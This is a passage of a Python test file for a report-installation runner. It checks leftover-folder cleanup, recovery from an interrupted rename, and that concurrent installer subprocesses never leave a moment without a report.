    from workbench.run import runner

    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / ".cremasco-abcd1234").mkdir()      # a killed run's folder (its lock is free)
    (reports / ".cremasco-nord-abcd1234").mkdir()  # another district's: not ours to clean
    tmp, alive = runner._temporary(reports, "cremasco")
    runner._clean_leftovers(reports, "cremasco")
    assert _hidden(reports) == sorted([tmp.name, ".cremasco-nord-abcd1234"])
    runner._release(alive)
    runner._clean_leftovers(reports, "cremasco")
    assert _hidden(reports) == [".cremasco-nord-abcd1234"]


def test_item14_interrupted_two_rename_installation_is_finished(tmp_path):
    from workbench.run import runner

    reports = tmp_path / "reports"
    (reports / ".cremasco-precedente").mkdir(parents=True)  # killed between the two renames
    (reports / ".cremasco-precedente" / "manifest.json").write_text("{}")
    runner._clean_leftovers(reports, "cremasco")
    assert (reports / "cremasco" / "manifest.json").is_file() and _hidden(reports) == []


INSTALLER = """
import pathlib, shutil, sys
from workbench.run import runner

reports, name = pathlib.Path(sys.argv[1]), "cremasco"
for i in range(int(sys.argv[2])):
    with runner._district_lock(reports, name):  # the sequence of run_district, without the notebooks
        runner._clean_leftovers(reports, name)
        tmp, alive = runner._temporary(reports, name)
    (tmp / "manifest.json").write_text(sys.argv[3] + str(i))
    with runner._district_lock(reports, name):
        runner._install(tmp, reports / name)
    shutil.rmtree(tmp, ignore_errors=True)
    runner._release(alive)
"""

WATCHER = """
import os, sys, time
path, stop = sys.argv[1], sys.argv[2]
seen = missing = 0
while not os.path.exists(stop):
    seen += 1
    missing += not os.path.exists(path)
print(seen, missing)
"""


def test_item14_concurrent_installs_never_leave_a_moment_without_a_report(tmp_path):
    import subprocess
    import sys

    reports = tmp_path / "reports"
    (reports / "cremasco").mkdir(parents=True)
    (reports / "cremasco" / "manifest.json").write_text("primo")
    stop = tmp_path / "fine"
    watcher = subprocess.Popen([sys.executable, "-c", WATCHER, str(reports / "cremasco" / "manifest.json"),
                                str(stop)], stdout=subprocess.PIPE, text=True)
    installers = [subprocess.Popen([sys.executable, "-c", INSTALLER, str(reports), "40", tag],
                                   stderr=subprocess.PIPE, text=True) for tag in "ab"]
    errors = [p.communicate(timeout=300)[1] for p in installers]
    stop.touch()
    seen, missing = map(int, watcher.communicate(timeout=60)[0].split())
    assert [p.returncode for p in installers] == [0, 0], errors  # no ENOTEMPTY, no FileNotFoundError
    assert seen > 100 and missing == 0, f"{missing} of {seen} looks found no report folder"
    assert _hidden(reports) == []
    assert (reports / "cremasco" / "manifest.json").read_text() in ("a39", "b39")
